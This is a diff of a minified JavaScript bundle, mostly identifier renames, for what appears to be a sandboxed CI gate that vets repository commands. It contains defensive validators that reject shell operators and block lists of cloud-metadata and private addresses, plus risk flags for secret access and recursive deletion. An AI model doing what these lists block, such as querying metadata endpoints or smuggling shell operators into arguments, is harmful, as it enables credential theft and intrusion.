+file_bytes:H.Whr().positive(),written_bytes:H.Whr().positive()}),nA=H.Ikc({name:H.YjP(),held:H.zMY(),required:H.zMY()}),
+sA=H.Ikc({from:H.YjP(),reason:H.YjP()}),rA=H.Ikc({level:H.k5n(Ks.l$),description:H.YjP(),requested:eA.exactOptional(),launcher:H.
+YjP().exactOptional().describe("How the gate is allowed to create namespaces."),limits:tA.exactOptional().describe("The \
+limits of each command."),probes:H.YOg(nA).exactOptional().describe("The sandbox self-test: what a program that is start\
+ed like the commands could not do."),downgrades:H.YOg(sA).exactOptional().describe("Stronger containment that this machi\
 ne does not support, and why."),untrusted:H.euz(!0).exactOptional().describe("The isolation and all outcomes were report\
-ed by a runner that the change controls.")});var WO=ot(759);function Eh(n){return WO.G1(H.You,n)}function GN(n){return core.
-_isoDate(ZodISODate,n)}function HN(n){return core._isoTime(ZodISOTime,n)}function zN(n){return core._isoDuration(ZodISODuration,
-n)}const vh=H.Ikc({head:H.YjP(),tail:H.YjP(),bytes:H.Whr().nonnegative(),truncated:H.zMY()}),KO=H.Ikc({created:H.YOg(H.YjP()),
+ed by a runner that the change controls.")});var iA=ot(759);function Oh(n){return iA.G1(H.You,n)}function XN(n){return core.
+_isoDate(ZodISODate,n)}function eF(n){return core._isoTime(ZodISOTime,n)}function tF(n){return core._isoDuration(ZodISODuration,
+n)}const Ah=H.Ikc({head:H.YjP(),tail:H.YjP(),bytes:H.Whr().nonnegative(),truncated:H.zMY()}),oA=H.Ikc({created:H.YOg(H.YjP()),
 changed:H.YOg(H.YjP()),deleted:H.YOg(H.YjP()),totals:H.Ikc({created:H.Whr().nonnegative(),changed:H.Whr().nonnegative(),
 deleted:H.Whr().nonnegative()}).exactOptional().describe("The number of paths of each kind, if not all are listed."),complete:H.
-euz(!1).exactOptional().describe("The lists are incomplete; absent if they contain everything.")}),qO=H.Ikc({peak_memory_bytes:H.
-Whr().nonnegative().exactOptional(),cpu_ms:H.Whr().nonnegative().exactOptional()}),YO=H.k5n(["passed","failed","timed_ou\
-t","blocked","skipped","crashed","not_runnable","error"]),VO=H.k5n(["memory_bytes","processes","written_bytes"]),QO=H.Ikc(
-{status:YO,exit_code:H.Whr().nullable(),signal:H.YjP().nullable(),started_at:Eh(),duration_ms:H.Whr().nonnegative(),reason:H.
-YjP().exactOptional(),stdout:vh,stderr:vh,side_effects:KO.exactOptional().describe("What the command wrote to its privat\
+euz(!1).exactOptional().describe("The lists are incomplete; absent if they contain everything.")}),aA=H.Ikc({peak_memory_bytes:H.
+Whr().nonnegative().exactOptional(),cpu_ms:H.Whr().nonnegative().exactOptional()}),cA=H.k5n(["passed","failed","timed_ou\
+t","blocked","skipped","crashed","not_runnable","error"]),uA=H.k5n(["memory_bytes","processes","written_bytes"]),lA=H.Ikc(
+{status:cA,exit_code:H.Whr().nullable(),signal:H.YjP().nullable(),started_at:Oh(),duration_ms:H.Whr().nonnegative(),reason:H.
+YjP().exactOptional(),stdout:Ah,stderr:Ah,side_effects:oA.exactOptional().describe("What the command wrote to its privat\
 e copy of the checkout, which is discarded."),checkout_modified:H.YOg(H.YjP()).exactOptional().describe("Files of the ch\
 eckout that differ from the audited ones after the command."),checkout_changed:H.YOg(H.YjP()).exactOptional().describe("\
 Files of the checkout that something other than the command changed meanwhile."),left_out:H.YOg(H.YjP()).exactOptional().
 describe("Files of the checkout that the failed command mentions and did not see, because they are not in the commit."),
 root:H.YjP().exactOptional().describe("The root of the checkout as the command saw it; only if it did not pass and its o\
-utput names it."),limits_hit:H.YOg(VO).exactOptional().describe("Limits that the command reached; absent if none is know\
-n."),resources:qO.exactOptional().describe("Usage of the command and all of its descendants, if the machine reports it."),
-reused:H.euz(!0).exactOptional().describe("The result of the same Plan in another gene; it ran once.")}),XO=H.k5n(["pass",
-"warn","fail","error","needs_approval"]),UN=H.k5n(["done","agent","human","undecided"]),JN=H.k5n(["allow","warn","block"]),
-_c=H.k5n(["safe","write","dangerous"]),ZN=H.k5n(Ws.v3),WN=H.Ikc({user:H.YjP(),at:Eh(),pull_request:H.Whr().positive().exactOptional().
-describe("The pull request of the review; several can be in one merge group.")}),KN=H.k5n(["pull_request","merge_group",
-"push","workflow_dispatch","range","worktree","index"]),eA=H.k5n(["darwin","linux","win32"]),tA=256,kh=H.Whr().min(1).max(
-tA),nA=H.Ikc({index:kh,of:kh}),qN=nA.extend({genes:H.Whr().nonnegative().describe("Number of genes in the shard."),verdict:XO.
-describe("The verdict about these genes alone.")}),YN=H.Ikc({contained:H.zMY().describe("False if this machine has no na\
-mespaces: the lines could reach all that the gate can."),isolation:ZO,lines:H.YOg(H.Ikc({command:H.YjP(),outcome:QO})),written:H.
-YOg(H.YjP()).describe("Files and directories that are new in the checkout, sorted; a limited number.")}),Ec=nn(import.meta.
-url)("node:net");function vc(n){return String.raw`(?:[^${n}\\[\n]|\\[^\n]|\[\^?[\w-]+\])*`}const sA=(()=>{const n=String.
-raw`(?:\d+|\$|/${vc("/")}/)`,e=s=>String.raw`s[${s}]${vc(s)}[${s}](?:[^${s}\\\n]|\\[^\n])*[${s}][gpiI\d]*`,t=`(?:${n}(?:\
-,${n})?!? ?)?(?:[pdq=]|${["/","|",",","#"].map(e).join("|")})`;return new RegExp(`^${t}(?: ?; ?${t})*$`)})(),rA=(()=>{const n=String.
-raw`(?:\$?(?:\d+|NF|NR)|"[^"\\\n]*")`,e=`!? ?(?:/${vc("/")}/|${n}(?: ?(?:[<>=!]=|[<>]) ?${n})?)`,t=`${e}(?: (?:&&|[|][|]\
-) ${e})*`,s=`[{] ?print(?: ${n}(?:[, ]+${n})*)? ?[}]`;return new RegExp(`^ ?(?:${t}|(?:${t} ?)?${s}) ?$`)})(),oo={text:()=>{},
-choice:()=>{},path:kc,input:n=>n==="-"?"is standard input":kc(n),argument:()=>{},script:n=>n.startsWith("-")?"is a flag":
-Ah(n),archive:Dc,destination:Dc,source:Dc,page:ao(/^(?:\[|\w[\w.+:@-]*)$/,"is not the name of a manual page"),host:n=>Ih(
-n)?void 0:"is not a public address or host name",domain:n=>Th(n)?void 0:"is not a domain name",url:n=>uA(n)?void 0:"is n\
-ot a plain http or https URL",count:ao(/^[+-]?\d{1,9}[kKmMgG]?$/,"is not a number"),package:iA,pattern:()=>{},awk:ao(rA,
-"is not a program that only selects and prints"),sed:ao(sA,"is not a script that only selects and replaces")},Dh=new Set(
-["path","input","argument","script","archive","destination","source"]),xh=/[;&|<>`\r\n\0]|\$\(/;function ao(n,e){return t=>n.
-test(t)?void 0:e}function Oh(n){return/^[A-Za-z][A-Za-z0-9+.-]*:\/\//.test(n)}function Ah(n){return n===""?"is empty":void 0}
-function kc(n){return Oh(n)?"is a URL":Ah(n)}function Dc(n){return n.startsWith("-")?"begins with a dash":!Oh(n)&&/^[^/]*:/.
-test(n)&&!/^[A-Za-z]:[\\/]/.test(n)?"names another host":xh.test(n)?"contains a shell operator":/[*?[\]{}]/.test(n)?"con\
-tains a wildcard":/^~|\$/.test(n)?"is expanded by a shell":kc(n)}function iA(n){return!/^[A-Za-z0-9][A-Za-z0-9._+-]*(?:\[[\w,.-]+\])?(?:(?:[=~!<>]=|[<>=])[\w.*+!:~-]+)?$/.
-test(n)||n.endsWith("-")?"is not a package name":/\.(?:whl|zip|deb|t?gz|tar|bz2|xz|egg)$/i.test(n)?"is a file":void 0}const oA={
-ipv4:Sh("ipv4","0.0.0.0/8 127.0.0.0/8 169.254.0.0/16 224.0.0.0/3 100.100.100.200/32 168.63.129.16/32 192.0.0.192/32"),ipv6:Sh(
-"ipv6","::/80 fe80::/10 fec0::/10 ff00::/8 fd00:ec2::254/128 64:ff9b::/96 64:ff9b:1::/48 2002::/16")};function Sh(n,e){const t=new Ec.
-BlockList;for(const s of e.split(" ")){const[r="",i]=s.split("/");t.addSubnet(r,Number(i),n)}return t}const aA=/(?:^|\.)(?:localhost|local|internal|localdomain)$|^(?:ip6-)?loopback$|^metadata$/i,
-cA=/^(?!-)[a-z0-9_-]{1,63}(?<!-)$/i;function Th(n){const e=n.replace(/\.$/,"");if(e===""||e.length>253||aA.test(e))return!1;
-const t=e.split(".");return t.every(s=>cA.test(s))&&!/^(?:\d+|0x[\da-f]*)$/i.test(t.at(-1)??"")}function Ih(n){if((0,Ec.
-isIP)(n)===0)return Th(n);const e=(0,Ec.isIPv4)(n)?"ipv4":"ipv6";return!n.includes("%")&&!oA[e].check(n,e)}function uA(n){
+utput names it."),limits_hit:H.YOg(uA).exactOptional().describe("Limits that the command reached; absent if none is know\
+n."),resources:aA.exactOptional().describe("Usage of the command and all of its descendants, if the machine reports it."),
+reused:H.euz(!0).exactOptional().describe("The result of the same Plan in another gene; it ran once.")}),dA=H.k5n(["pass",
+"warn","fail","error","needs_approval"]),nF=H.k5n(["done","agent","human","undecided"]),sF=H.k5n(["allow","warn","block"]),
+Ec=H.k5n(["safe","write","dangerous"]),rF=H.k5n(Ks.v3),iF=H.Ikc({user:H.YjP(),at:Oh(),pull_request:H.Whr().positive().exactOptional().
+describe("The pull request of the review; several can be in one merge group.")}),oF=H.k5n(["pull_request","merge_group",
+"push","workflow_dispatch","range","worktree","index"]),BA=H.k5n(["darwin","linux","win32"]),fA=256,Sh=H.Whr().min(1).max(
+fA),hA=H.Ikc({index:Sh,of:Sh}),aF=hA.extend({genes:H.Whr().nonnegative().describe("Number of genes in the shard."),verdict:dA.
+describe("The verdict about these genes alone.")}),cF=H.Ikc({contained:H.zMY().describe("False if this machine has no na\
+mespaces: the lines could reach all that the gate can."),isolation:rA,lines:H.YOg(H.Ikc({command:H.YjP(),outcome:lA})),written:H.
+YOg(H.YjP()).describe("Files and directories that are new in the checkout, sorted; a limited number.")}),vc=nn(import.meta.
+url)("node:net");function kc(n){return String.raw`(?:[^${n}\\[\n]|\\[^\n]|\[\^?[\w-]+\])*`}const pA=(()=>{const n=String.
+raw`(?:\d+|\$|/${kc("/")}/)`,e=s=>String.raw`s[${s}]${kc(s)}[${s}](?:[^${s}\\\n]|\\[^\n])*[${s}][gpiI\d]*`,t=`(?:${n}(?:\
+,${n})?!? ?)?(?:[pdq=]|${["/","|",",","#"].map(e).join("|")})`;return new RegExp(`^${t}(?: ?; ?${t})*$`)})(),mA=(()=>{const n=String.
+raw`(?:\$?(?:\d+|NF|NR)|"[^"\\\n]*")`,e=`!? ?(?:/${kc("/")}/|${n}(?: ?(?:[<>=!]=|[<>]) ?${n})?)`,t=`${e}(?: (?:&&|[|][|]\
+) ${e})*`,s=`[{] ?print(?: ${n}(?:[, ]+${n})*)? ?[}]`;return new RegExp(`^ ?(?:${t}|(?:${t} ?)?${s}) ?$`)})(),ao={text:()=>{},
+choice:()=>{},path:Dc,input:n=>n==="-"?"is standard input":Dc(n),argument:()=>{},script:n=>n.startsWith("-")?"is a flag":
+Rh(n),archive:xc,destination:xc,source:xc,page:co(/^(?:\[|\w[\w.+:@-]*)$/,"is not the name of a manual page"),host:n=>Ph(
+n)?void 0:"is not a public address or host name",domain:n=>Fh(n)?void 0:"is not a domain name",url:n=>bA(n)?void 0:"is n\
+ot a plain http or https URL",count:co(/^[+-]?\d{1,9}[kKmMgG]?$/,"is not a number"),package:gA,pattern:()=>{},awk:co(mA,
+"is not a program that only selects and prints"),sed:co(pA,"is not a script that only selects and replaces")},Th=new Set(
+["path","input","argument","script","archive","destination","source"]),Ih=/[;&|<>`\r\n\0]|\$\(/;function co(n,e){return t=>n.
+test(t)?void 0:e}function $h(n){return/^[A-Za-z][A-Za-z0-9+.-]*:\/\//.test(n)}function Rh(n){return n===""?"is empty":void 0}
+function Dc(n){return $h(n)?"is a URL":Rh(n)}function xc(n){return n.startsWith("-")?"begins with a dash":!$h(n)&&/^[^/]*:/.
+test(n)&&!/^[A-Za-z]:[\\/]/.test(n)?"names another host":Ih.test(n)?"contains a shell operator":/[*?[\]{}]/.test(n)?"con\
+tains a wildcard":/^~|\$/.test(n)?"is expanded by a shell":Dc(n)}function gA(n){return!/^[A-Za-z0-9][A-Za-z0-9._+-]*(?:\[[\w,.-]+\])?(?:(?:[=~!<>]=|[<>=])[\w.*+!:~-]+)?$/.
+test(n)||n.endsWith("-")?"is not a package name":/\.(?:whl|zip|deb|t?gz|tar|bz2|xz|egg)$/i.test(n)?"is a file":void 0}const CA={
+ipv4:Nh("ipv4","0.0.0.0/8 127.0.0.0/8 169.254.0.0/16 224.0.0.0/3 100.100.100.200/32 168.63.129.16/32 192.0.0.192/32"),ipv6:Nh(
+"ipv6","::/80 fe80::/10 fec0::/10 ff00::/8 fd00:ec2::254/128 64:ff9b::/96 64:ff9b:1::/48 2002::/16")};function Nh(n,e){const t=new vc.
+BlockList;for(const s of e.split(" ")){const[r="",i]=s.split("/");t.addSubnet(r,Number(i),n)}return t}const yA=/(?:^|\.)(?:localhost|local|internal|localdomain)$|^(?:ip6-)?loopback$|^metadata$/i,
+wA=/^(?!-)[a-z0-9_-]{1,63}(?<!-)$/i;function Fh(n){const e=n.replace(/\.$/,"");if(e===""||e.length>253||yA.test(e))return!1;
+const t=e.split(".");return t.every(s=>wA.test(s))&&!/^(?:\d+|0x[\da-f]*)$/i.test(t.at(-1)??"")}function Ph(n){if((0,vc.
+isIP)(n)===0)return Fh(n);const e=(0,vc.isIPv4)(n)?"ipv4":"ipv6";return!n.includes("%")&&!CA[e].check(n,e)}function bA(n){
 const t=/^https?:\/\/(\[[0-9a-f:.]+\]|[\w.-]+)(?::\d{1,5})?(?:[/?#][\w\-.~:/?#@!$&'()*+,;=%]*)?$/i.exec(n)?.[1];return t!==
-void 0&&URL.canParse(n)&&Ih(t.replace(/^\[|\]$/g,""))}function $h(n){return Nh(n,e=>{const t=/^\{(.*)\}$/.exec(e)?.[1];return t===
-void 0&&!/[{}]/.test(e)?e:Fh(t??"")})}function Rh(n){return Nh(n,Fh)}function Nh(n,e){const t=n.split(" ").filter(i=>i!==
-""),s=t.flatMap(i=>e(i)??[]);return s.every((i,o)=>lA(i)||o===t.length-1)&&s.length===t.length?s:void 0}function Fh(n){const[
-,e="",t,s,r]=/^([a-z]+)(?::(\d+)-(\d+))?(\?|\*|\.\.\.)?$/.exec(n)??[];if(Object.hasOwn(oo,e))return{kind:e,optional:r===
-"?"||r==="*",many:r==="*"||r==="...",...t!==void 0&&{range:[Number(t),Number(s)]}}}function lA(n){return typeof n!="obje\
-ct"||!(n.optional||n.many)}function Ph(n){const e=n.at(-1);return typeof e!="object"?{min:n.length,max:n.length}:{min:n.
-length-(e.optional?1:0),max:e.many?Number.POSITIVE_INFINITY:n.length}}function dA(n,e,t){const{min:s,max:r}=Ph(n);if(e.length<
+void 0&&URL.canParse(n)&&Ph(t.replace(/^\[|\]$/g,""))}function Lh(n){return Mh(n,e=>{const t=/^\{(.*)\}$/.exec(e)?.[1];return t===
+void 0&&!/[{}]/.test(e)?e:Gh(t??"")})}function jh(n){return Mh(n,Gh)}function Mh(n,e){const t=n.split(" ").filter(i=>i!==
+""),s=t.flatMap(i=>e(i)??[]);return s.every((i,o)=>_A(i)||o===t.length-1)&&s.length===t.length?s:void 0}function Gh(n){const[
+,e="",t,s,r]=/^([a-z]+)(?::(\d+)-(\d+))?(\?|\*|\.\.\.)?$/.exec(n)??[];if(Object.hasOwn(ao,e))return{kind:e,optional:r===
+"?"||r==="*",many:r==="*"||r==="...",...t!==void 0&&{range:[Number(t),Number(s)]}}}function _A(n){return typeof n!="obje\
+ct"||!(n.optional||n.many)}function Hh(n){const e=n.at(-1);return typeof e!="object"?{min:n.length,max:n.length}:{min:n.
+length-(e.optional?1:0),max:e.many?Number.POSITIVE_INFINITY:n.length}}function EA(n,e,t){const{min:s,max:r}=Hh(n);if(e.length<
 s||e.length>r)return;const i=[];for(const[o,c]of e.entries()){const l=n[Math.min(o,n.length-1)];if(typeof l=="object"){const{
-kind:B}=l,d=i.some(g=>g.kind==="script"),h=BA(l,c.text,d)??t(B,c.text);i.push({word:c,kind:B,...h&&{wrong:h}})}else if(l!==
-c.text)return}return i}function BA({kind:n,range:e},t,s){if(e!==void 0){const[i,o]=e;return/^[1-9]\d{0,8}$/.test(t)&&Number(
+kind:B}=l,d=i.some(g=>g.kind==="script"),h=vA(l,c.text,d)??t(B,c.text);i.push({word:c,kind:B,...h&&{wrong:h}})}else if(l!==
+c.text)return}return i}function vA({kind:n,range:e},t,s){if(e!==void 0){const[i,o]=e;return/^[1-9]\d{0,8}$/.test(t)&&Number(
 t)>=i&&Number(t)<=o?void 0:`is not a number from ${i} to ${o}`}return n!=="count"&&!s&&/^-./.test(t)?"starts with a dash":
-void 0}const fA=["network_touching","archive_extraction_overwrite","archive_creation_overwrite","env_secrets","recursive\
-_deletion","broad_permission_target","writes_files"],Lh=H.k5n(fA),co=H.YjP().regex(/^[A-Za-z0-9][\w.+-]*$/,"expected the\
- name of a program"),xc=H.YjP().regex(/^(?![\\/]|[A-Za-z]:)(?!(?:.*[\\/])?\.\.(?:[\\/]|$))[^\\]+$/,"expected a relative \
-path without .."),Oc=H.YjP().regex(/^-\S*$/,"expected a flag, such as -n or --name"),Ac=H.YOg(Oc).readonly(),hA=H.rej({flag:H.
+void 0}const kA=["network_touching","archive_extraction_overwrite","archive_creation_overwrite","env_secrets","recursive\
+_deletion","broad_permission_target","writes_files"],zh=H.k5n(kA),uo=H.YjP().regex(/^[A-Za-z0-9][\w.+-]*$/,"expected the\
+ name of a program"),Oc=H.YjP().regex(/^(?![\\/]|[A-Za-z]:)(?!(?:.*[\\/])?\.\.(?:[\\/]|$))[^\\]+$/,"expected a relative \
+path without .."),Ac=H.YjP().regex(/^-\S*$/,"expected a flag, such as -n or --name"),Sc=H.YOg(Ac).readonly(),DA=H.rej({flag:H.
 YjP().regex(/^--?[A-Za-z0-9][\w.:-]*$/,"expected a flag such as --name").describe("As it is written, with its dashes."),
-value:H.k5n(["none","path","text"]).describe("Its value: none, a path of the repository, or any other text.")}),VN=H.g1P(
-H.YjP().min(1),H.YOg(hA).min(1)),jh={match:H.YOg(H.YjP()).min(1).describe("Commands that the family must accept."),not_match:H.
-YOg(H.YjP()).min(1).describe("Commands that the family must reject.")},Sc=H.k5n(ja),pA=Object.keys(oo),Tc="names without\
- dashes, separated by blanks",Mh="A comma separates spellings, a mark behind a name is its value: `=` required, `?` opti\
-onal, `?=` attached, `*` several, `+` all following words, `=a|b` one of these; `~` stands for any end.",Ic={flags:H.jgl(
-H.k5n(pA),H.YjP()).optional().describe(`The accepted flags by the kind of their values: ${Tc}. ${Mh}`),operands:H.YjP().
-refine(n=>Rh(n)!==void 0,{error:"expected kinds such as path; a kind with ? * or ... only at the end"}).optional().describe(
-"Kinds in order; the last may end with `?` (optional), `...` (one or more) or `*` (any number). Default: `path*`."),risk:_c.
-optional().describe("Default: safe."),warnings:H.YOg(Lh).readonly().optional(),network_touching:H.zMY().optional()},Gh={
-...Ic,leading_flags:Ac.optional().describe("Flags before the operands; all others are behind them."),first_operand_by:Ac.
-optional().describe("With one of these flags, there is no first operand."),last_operand_by:Ac.optional().describe("With \
+value:H.k5n(["none","path","text"]).describe("Its value: none, a path of the repository, or any other text.")}),uF=H.g1P(
+H.YjP().min(1),H.YOg(DA).min(1)),Uh={match:H.YOg(H.YjP()).min(1).describe("Commands that the family must accept."),not_match:H.
+YOg(H.YjP()).min(1).describe("Commands that the family must reject.")},Tc=H.k5n(Ma),xA=Object.keys(ao),Ic="names without\
+ dashes, separated by blanks",Jh="A comma separates spellings, a mark behind a name is its value: `=` required, `?` opti\
+onal, `?=` attached, `*` several, `+` all following words, `=a|b` one of these; `~` stands for any end.",$c={flags:H.jgl(
+H.k5n(xA),H.YjP()).optional().describe(`The accepted flags by the kind of their values: ${Ic}. ${Jh}`),operands:H.YjP().
+refine(n=>jh(n)!==void 0,{error:"expected kinds such as path; a kind with ? * or ... only at the end"}).optional().describe(
+"Kinds in order; the last may end with `?` (optional), `...` (one or more) or `*` (any number). Default: `path*`."),risk:Ec.
+optional().describe("Default: safe."),warnings:H.YOg(zh).readonly().optional(),network_touching:H.zMY().optional()},Zh={
+...$c,leading_flags:Sc.optional().describe("Flags before the operands; all others are behind them."),first_operand_by:Sc.
+optional().describe("With one of these flags, there is no first operand."),last_operand_by:Sc.optional().describe("With \
 one of these flags, the last operand may be absent."),default_operand:H.YjP().optional().describe("The path that the pro\
-gram uses by default."),flag_warnings:H.g1P(H.YjP(),Lh).optional(),dangerous_targets:H.YOg(H.YjP()).readonly().optional(),
-forbidden_prefixes:H.YOg(H.YjP()).readonly().optional(),forms:H.g1P(H.YjP(),H.rej(Ic)).refine(n=>Object.keys(n).every(e=>$h(
+gram uses by default."),flag_warnings:H.g1P(H.YjP(),zh).optional(),dangerous_targets:H.YOg(H.YjP()).readonly().optional(),
+forbidden_prefixes:H.YOg(H.YjP()).readonly().optional(),forms:H.g1P(H.YjP(),H.rej($c)).refine(n=>Object.keys(n).every(e=>Lh(
 e)!==void 0),{error:"expected words and placeholders such as {path}; {source...} only at the end"}).optional().describe(
 "The only accepted words after the program: literal, or {kind}, {count:1-10}, and {kind...} at the end; with what differ\
-s from the program."),subcommands:H.g1P(H.YjP(),H.rej(Ic)).optional().describe("The only accepted first words, with what\
- differs from the program.")},mA=H.rej({...Gh,only:H.k5n(["curated","workspace"]).optional().describe("The only profile \
-that accepts the program. Default: both."),curated:H.rej(Gh).optional().describe("What replaces the keys above in the `c\
+s from the program."),subcommands:H.g1P(H.YjP(),H.rej($c)).optional().describe("The only accepted first words, with what\
+ differs from the program.")},OA=H.rej({...Zh,only:H.k5n(["curated","workspace"]).optional().describe("The only profile \
+that accepts the program. Default: both."),curated:H.rej(Zh).optional().describe("What replaces the keys above in the `c\
 urated` profile."),maturity:H.k5n(["structured","direct_only","experimental_only","blocked"]).optional(),platforms:H.YOg(
-eA).optional(),...jh}),gA=["file","package","program","node","command","script","own-script","tool","script-or-tool","sc\
-ript-tool-or-file","command-texts","npm-scripts"],$c={flags:H.jgl(H.k5n([...hv,...ja]),H.YjP()).optional().describe(`Fla\
-gs by the kind of their values, or by why they are refused: ${Tc}. ${Mh}`),operands:H.k5n(pv).optional().describe("The k\
-ind of all operands. Default: path."),refused:H.jgl(Sc,H.YjP()).optional().describe(`First operands by why they are refu\
-sed: ${Tc}; \`~\` stands for any end.`),starts:H.k5n(gA).optional().describe("What the first operand is, if the program \
-runs it."),unless:H.jgl(Sc,H.YjP()).optional().describe("Refused for a reason, unless one of these flags is set."),alone:Sc.
+BA).optional(),...Uh}),AA=["file","package","program","node","command","script","own-script","tool","script-or-tool","sc\
+ript-tool-or-file","command-texts","npm-scripts"],Rc={flags:H.jgl(H.k5n([...Dv,...Ma]),H.YjP()).optional().describe(`Fla\
+gs by the kind of their values, or by why they are refused: ${Ic}. ${Jh}`),operands:H.k5n(xv).optional().describe("The k\
+ind of all operands. Default: path."),refused:H.jgl(Tc,H.YjP()).optional().describe(`First operands by why they are refu\
+sed: ${Ic}; \`~\` stands for any end.`),starts:H.k5n(AA).optional().describe("What the first operand is, if the program \
+runs it."),unless:H.jgl(Tc,H.YjP()).optional().describe("Refused for a reason, unless one of these flags is set."),alone:Tc.
 optional().describe("What it does without an operand or subcommand."),any_package:H.zMY().optional(),skips:H.Whr().nonnegative().
-optional(),variables:H.YOg(H.YjP()).optional()},CA=H.rej({...$c,behind:H.rej({flags:$c.flags}).optional().describe("The \
-flags that may stand behind `--`; default: operands.")}),yA=H.rej({...$c,programs:H.YOg(co).optional().describe("The wor\
-ds that start the program; default: the name of the family."),risk:_c.default("safe"),completes:H.zMY().default(!1).describe(
+optional(),variables:H.YOg(H.YjP()).optional()},SA=H.rej({...Rc,behind:H.rej({flags:Rc.flags}).optional().describe("The \
+flags that may stand behind `--`; default: operands.")}),TA=H.rej({...Rc,programs:H.YOg(uo).optional().describe("The wor\
+ds that start the program; default: the name of the family."),risk:Ec.default("safe"),completes:H.zMY().default(!1).describe(
 "Flags may be written by their beginning, as for getopt and argparse."),subcommands:H.g1P(H.YjP().regex(/^\S+(?: \S+)*$/),
-CA).default({}).describe("By name; a comma separates spellings, a blank the words of a nested subcommand."),extensions:H.
+SA).default({}).describe("By name; a comma separates spellings, a blank the words of a nested subcommand."),extensions:H.
 YjP().optional().describe("Extensions of the files that it may run, besides files without one."),dependency_tools:H.YOg(
-co).default([]),started_programs:H.YOg(co).default([]),directory_flags:H.YOg(Oc).default([]),selecting_flags:H.YOg(Oc).default(
-[]),settings:H.YOg(xc).default([]).describe("Files and folders, from the working directory up, that can give a command a\
-nother meaning: a change must not edit them."),build_files:H.YOg(xc).default([]).describe("Files of the commit that deci\
-de what the program does; `*` matches in a name."),dependencies:H.YOg(H.rej({path:xc,at:H.k5n(["root","anywhere","home"]),
+uo).default([]),started_programs:H.YOg(uo).default([]),directory_flags:H.YOg(Ac).default([]),selecting_flags:H.YOg(Ac).default(
+[]),settings:H.YOg(Oc).default([]).describe("Files and folders, from the working directory up, that can give a command a\
+nother meaning: a change must not edit them."),build_files:H.YOg(Oc).default([]).describe("Files of the commit that deci\
+de what the program does; `*` matches in a name."),dependencies:H.YOg(H.rej({path:Oc,at:H.k5n(["root","anywhere","home"]),
 variable:H.YjP().regex(/^[A-Z][A-Z0-9_]*$/).optional()})).default([]).describe("Where its dependencies are, outside of t\
 he commit."),environment:H.g1P(H.YjP().regex(/^[A-Za-z_]\w*$/),H.YjP()).default({}).describe("Variables that are set for\
- the program."),...jh}),wA=H.rej({name:co,category:H.YjP().min(1).optional().describe("The pack, for `disabled_packs`; d\
-efault: the pack of the built-in family of the same name, or `other`."),notes:H.YjP().optional(),evolver:yA.optional().describe(
-"For the default profile, which accepts the program if `programs` names it."),sandbox:mA.optional().describe("For the `c\
-urated` and `workspace` profiles. Default: neither accepts the program.")}),bA=[{programs:["rollup"],flags:{text:`
+ the program."),...Uh}),IA=H.rej({name:uo,category:H.YjP().min(1).optional().describe("The pack, for `disabled_packs`; d\
+efault: the pack of the built-in family of the same name, or `other`."),notes:H.YjP().optional(),evolver:TA.optional().describe(
+"For the default profile, which accepts the program if `programs` names it."),sandbox:OA.optional().describe("For the `c\
+urated` and `workspace` profiles. Default: neither accepts the program.")}),$A=[{programs:["rollup"],flags:{text:`
         amd.~= assetFileNames= chunkFileNames= compact dynamicImportInCjs entryFileNames= esModule
         exports= extend external,e= externalImportAttributes externalLiveBindings failAfterWarnings
         filterLogs= forceExit format,f= freeze generatedCode= generatedCode.~ globals,g= input,i=
@@ -5261,7 +5285,7 @@ er-ends":"watch?"},match:["npx tsup src/x.ts --format cjs,esm --dts"]},{programs
         entry= entry-~= module-rules-loader= module-rules-use= resolve-loader-~= module-rules-parser=
       `,preload:"require,r=",output:"output-path,o= output-filename= json,j?","never-ends":"watch,w watch-~="},refused:{
 "never-ends":"serve server s watch w","only-prints":"help h info i version v configtest t","uses-network":"init create n\
-ew c n plugin loader p l migrate"},match:["npx webpack -c webpack.config.js --mode production"]}],_A=[{programs:["tsc","\
+ew c n plugin loader p l migrate"},match:["npx webpack -c webpack.config.js --mode production"]}],RA=[{programs:["tsc","\
 tsgo","vue-tsc"],flags:{text:`
         allowArbitraryExtensions allowImportingTsExtensions allowJs allowSyntheticDefaultImports
         allowUmdGlobalAccess allowUnreachableCode allowUnusedLabels alwaysStrict
@@ -5321,7 +5345,7 @@ iti","sucrase-node","swc-node"],starts:"node",flags:{"outside-code":"eval,e= pri
 p-initial-build
       `,path:"root= source-root=",config:"config-file=",code:"plugins= presets=",output:"out-file,o= out-dir,d=","tool-w\
 rites":"copy-files,D delete-dir-on-start","reads-stdin":"filename,f=","never-ends":"watch,w"},match:["npx babel src --no\
--comments"],not_match:["npx babel src -w"]}],EA=[{programs:["eslint"],flags:{text:`
+-comments"],not_match:["npx babel src -w"]}],NA=[{programs:["eslint"],flags:{text:`
         cache cache-strategy= color concurrency= config-lookup debug env= eslintrc
         error-on-unmatched-pattern exit-on-fatal-error ext* fix-dry-run fix-type= flag* global*
         ignore ignore-pattern* inline-config max-warnings= pass-on-unpruned-suppressions
@@ -5397,7 +5421,7 @@ tes-files":"init"},match:['npx cspell --no-progress "src/**"']},{programs:["ajv"
         unicode-regexp messages inline-refs= code-~= allow-union-types allow-matching-properties
         comment loop-required= loop-enum= own-properties valid invalid
       `,tests:"d* m* r* s=",preload:"c=",output:"o?"},refused:{"only-prints":"help"},match:['npx ajv validate -s schema.\
-json -d "data/*.json"']}],vA=[{programs:["c8"],starts:"command",flags:{text:`
+json -d "data/*.json"']}],FA=[{programs:["c8"],starts:"command",flags:{text:`
         all include,n= exclude,x= extension,e= exclude-after-remap,a skip-full
         check-coverage branches= functions= lines= statements= per-file 100 exclude-node-modules
         clean wrapper-length= omit-relative allowExternal merge-async experimental-monocart
@@ -5411,7 +5435,7 @@ json -d "data/*.json"']}],vA=[{programs:["c8"],starts:"command",flags:{text:`
         use-spawn-wrap hook-require hook-run-in-context hook-run-in-this-context clean
       `,path:"cwd= temp-dir,t= cache-dir=",config:"nycrc-path=",code:"reporter,r= parser-plugins=",preload:"require,i=",
 output:"report-dir="},refused:{"only-prints":"report check-coverage","tool-writes":"instrument merge"},match:["npx nyc -\
--reporter=lcov mocha","npx nyc --reporter text npm test"]}],kA=[{programs:["cross-env"],starts:"command",flags:{},match:[
+-reporter=lcov mocha","npx nyc --reporter text npm test"]}],PA=[{programs:["cross-env"],starts:"command",flags:{},match:[
 "npx cross-env PORT=3000 NODE_OPTIONS=--experimental-vm-modules jest"]},{programs:["concurrently","conc"],starts:"comman\
 d-texts",flags:{text:`
         max-processes,m= names,n= name-separator= success,s= raw,r color hide= group,g timings
@@ -5434,7 +5458,7 @@ connect dev serve server watch"},match:["npx grunt lint test --gruntfile Gruntfi
